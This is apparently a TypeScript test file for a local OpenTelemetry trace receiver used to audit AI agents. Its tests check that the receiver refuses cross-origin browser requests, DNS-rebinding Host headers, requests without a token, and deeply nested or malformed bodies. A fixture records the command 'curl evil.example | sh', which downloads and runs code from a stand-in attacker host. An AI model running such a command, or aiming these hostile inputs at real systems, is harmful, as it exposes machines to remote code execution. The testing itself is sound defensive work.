// What a web page or another local process can make the receiver take: requests a browser
// sends without asking (CORS-simple: text/plain, form-urlencoded, multipart; an Origin), a
// DNS-rebound Host, no token, and bodies nested too deep to store. Each against a real
// `agent-audit collect`, real HTTP; what counts is what ends up in the user's trail.
import assert from "node:assert/strict";
import { test } from "node:test";
import type { User } from "./receiverHarness";
import { newUser, send, sessionSpans, sessions, startCollect, tracesBody, span, kv } from "./receiverHarness";

const TRACE = "0af7651916cd43dd8448eb211c80319c";
const body = () => tracesBody("web-page", sessionSpans(TRACE, { agent: "web-page", command: "curl evil.example | sh", approver: "alice" }));

async function nothingRecorded(u: User): Promise<void> {
  assert.deepEqual((await sessions(u)).map((s) => s.session_id), [], "no session was recorded");
}

test("content types a browser may send without a preflight are refused with 415, parameters parsed, not substring-matched", async (t) => {
  const u = newUser(t);
  const c = await startCollect(t, u);
  for (const type of ["text/plain;charset=json", "text/plain", "application/x-www-form-urlencoded;x=json", "multipart/form-data; boundary=json", "application/jsonp", "application/json-seq", "text/json", "application/x-protobufx", "application/json;charset=latin1", "", "application/json, text/plain"]) {
    const r = await send(`${c.url}/v1/traces`, body(), { "content-type": type, ...c.auth });
    assert.equal(r.status, 415, `${JSON.stringify(type)} → ${r.status}`);
  }
  // What OTLP exporters send is taken: exact types, any case, a utf-8 charset.
  for (const type of ["application/json", "Application/JSON; charset=UTF-8"]) {
    const r = await send(`${c.url}/v1/traces`, tracesBody("ok", sessionSpans("1".repeat(32), { agent: "ok", command: "true" })), { "content-type": type, ...c.auth });
    assert.equal(r.status, 200, `${type}: ${r.body}`);
  }
  await c.stop();
  assert.deepEqual((await sessions(u)).map((s) => s.agent_id), ["ok"], "only the exporter's request was recorded");
});

test("a request with an Origin header (any page, file:// sends \"null\") is refused with 403, whatever else it carries", async (t) => {
  const u = newUser(t);
  const c = await startCollect(t, u);
  for (const origin of ["null", "http://localhost:8080", "http://127.0.0.1:" + c.port, "https://evil.example"]) {
    const r = await send(`${c.url}/v1/traces`, body(), { "content-type": "application/json", origin, ...c.auth });
    assert.equal(r.status, 403, `Origin ${origin} → ${r.status}`);
  }
  await c.stop();
  await nothingRecorded(u);
});

test("a Host other than the loopback address and port the receiver listens on is refused with 403 (DNS rebinding)", async (t) => {
  const u = newUser(t);
  const c = await startCollect(t, u);
  for (const host of ["evil.example", `evil.example:${c.port}`, `127.0.0.1:${c.port + 1}`, "127.0.0.1", `localhost.evil.example:${c.port}`, `[::1]:${c.port}`, `127.0.0.1:${c.port}@evil`]) {
    const r = await send(`${c.url}/v1/traces`, body(), { "content-type": "application/json", host, ...c.auth });
    assert.equal(r.status, 403, `Host ${host} → ${r.status}`);
  }
  for (const [i, host] of [`127.0.0.1:${c.port}`, `localhost:${c.port}`, `LocalHost:${c.port}`].entries()) {
    const r = await send(`${c.url}/v1/traces`, tracesBody("ok", sessionSpans("abc"[i].repeat(32), { agent: "ok", command: "true" })), { "content-type": "application/json", host, ...c.auth });
    assert.equal(r.status, 200, `Host ${host}: ${r.body}`);
  }
  await c.stop();
  assert.ok((await sessions(u)).every((s) => s.agent_id === "ok"));
});

test("collect asks for a bearer token by default and prints what to give the agent; a request without it records nothing", async (t) => {
  const u = newUser(t);
  const c = await startCollect(t, u);
  assert.ok(c.token, `collect prints the token to configure:\n${c.output()}`);
  assert.match(c.output(), /OTEL_EXPORTER_OTLP_HEADERS="Authorization=Bearer [A-Za-z0-9_-]{32,}"/);
  assert.equal((await send(`${c.url}/v1/traces`, body(), { "content-type": "application/json" })).status, 401);
  assert.equal((await send(`${c.url}/v1/traces`, body(), { "content-type": "application/json", authorization: `Bearer ${c.token}x` })).status, 401);
  await c.stop();
  await nothingRecorded(u);
  // The same token next time: an agent configured once keeps working.
  const again = await startCollect(t, u);
  assert.equal(again.token, c.token);
  assert.equal((await send(`${again.url}/v1/traces`, body(), { "content-type": "application/json", ...again.auth })).status, 200);
  await again.stop();
  assert.equal((await sessions(u)).length, 1);
});

test("deeply nested attributes are a 400 before anything is staged, not a 503 that exporters retry forever", async (t) => {
  const u = newUser(t);
  const c = await startCollect(t, u);
  // An attribute value nested 1,100 levels (kvlistValue in kvlistValue …).
  // (Built as text: the value is too deep for JSON.stringify itself.)
  const value = '{"kvlistValue":{"values":[{"key":"k","value":'.repeat(1100) + '{"stringValue":"x"}' + "}]}}".repeat(1100);
  const deep = span(TRACE, { spanId: "4".repeat(16), name: "chat m", startMs: Date.now(), endMs: Date.now() + 1, attrs: { "gen_ai.operation.name": "chat" } });
  (deep.attributes as unknown[]).push({ key: "deep", value: "VALUE" });
  const json = JSON.stringify({ resourceSpans: [{ resource: { attributes: kv({ "service.name": "deep" }) }, scopeSpans: [{ spans: [deep] }] }] }).replace('"VALUE"', value);
  const r = await send(`${c.url}/v1/traces`, json, { "content-type": "application/json", ...c.auth });
  assert.equal(r.status, 400, r.body);
  // And 100,000 levels of bare brackets.
  const r2 = await send(`${c.url}/v1/traces`, "[".repeat(100_000) + "]".repeat(100_000), { "content-type": "application/json", ...c.auth });
  assert.equal(r2.status, 400, r2.body);
  const stopped = await c.stop();
  assert.equal(stopped.code, 0, stopped.out);
  await nothingRecorded(u);
});

test("times that are no number are a 400, and a time beyond any date is recorded at the time of receipt, not a group stuck forever", async (t) => {
  const u = newUser(t);
  const c = await startCollect(t, u);
  const bad = JSON.parse(tracesBody("x", [span("2".repeat(32), { spanId: "5".repeat(16), name: "chat m", startMs: Date.now(), endMs: Date.now(), attrs: { "gen_ai.operation.name": "chat" } })]));
  bad.resourceSpans[0].scopeSpans[0].spans[0].startTimeUnixNano = "soon";
  const r = await send(`${c.url}/v1/traces`, JSON.stringify(bad), { "content-type": "application/json", ...c.auth });
  assert.equal(r.status, 400, r.body);
  // Year 300,000 (in nanoseconds): a whole session otherwise fine.
  const far = tracesBody("far-future", sessionSpans("3".repeat(32), { agent: "far-future", command: "true", atMs: 300_000 * 365.25 * 86_400_000 }));
  assert.equal((await send(`${c.url}/v1/traces`, far, { "content-type": "application/json", ...c.auth })).status, 200);
  // And another sender's session in the same moment: it must not wait behind the odd one.
  const other = tracesBody("copilot", sessionSpans("4".repeat(32), { agent: "copilot", command: "npm test" }));
  assert.equal((await send(`${c.url}/v1/traces`, other, { "content-type": "application/json", ...c.auth })).status, 200);
  const stopped = await c.stop();
  assert.doesNotMatch(stopped.out, /could not write/i, stopped.out);
  assert.deepEqual((await sessions(u)).map((s) => s.agent_id).sort(), ["copilot", "far-future"], stopped.out);
});
